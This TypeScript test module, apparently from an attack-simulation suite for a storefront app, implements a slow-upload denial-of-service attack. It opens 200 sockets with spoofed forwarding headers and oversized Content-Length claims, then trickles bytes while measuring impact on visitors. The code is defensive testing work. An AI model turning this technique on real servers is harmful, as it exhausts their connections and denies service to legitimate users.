/** Occupies the server with many uploads that never end. */
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { type Attack, signIn } from './attack.ts'
import { measureVisitorImpact } from './visitor-impact.ts'

const uploads = 200

export const slowUploads: Attack = {
  name: 'slow uploads',
  tried: '200 uploads that never end',
  async run(server, { isQuick }) {
    const { id, token } = await signIn(server, 'seller@tuckbox.test')
    const { hostname, port } = new URL(server.url)
    const sockets: Socket[] = []
    const open = (at: number) => {
      const socket = connect(Number(port), hostname)
      socket.on('error', () => {})
      socket.write(
        [
          `POST /storage/v1/object/product_images/${id}/slow-${at} HTTP/1.1`,
          `Host: ${hostname}:${port}`,
          `Authorization: Bearer ${token}`,
          `apikey: ${server.anonKey}`,
          'X-Forwarded-For: 198.18.254.1',
          'Content-Type: image/png',
          'Content-Length: 4000000',
          '',
          '',
        ].join('\r\n'),
      )
      sockets.push(socket)
    }
    try {
      const burst = async () => {
        for (let at = 0; at < uploads; at += 1) open(at)
        for (let rounds = 0; rounds < 30; rounds += 1) {
          for (const socket of sockets) socket.write('x'.repeat(100))
          await wait(100)
        }
      }
      const visitorImpact = await measureVisitorImpact(server, { times: 1, pauseMs: 0, burst, isQuick })
      return { isBlocked: !visitorImpact.isLarge, outcome: `${uploads} uploads`, visitorImpact }
    } finally {
      for (const socket of sockets) socket.destroy()
    }
  },
}
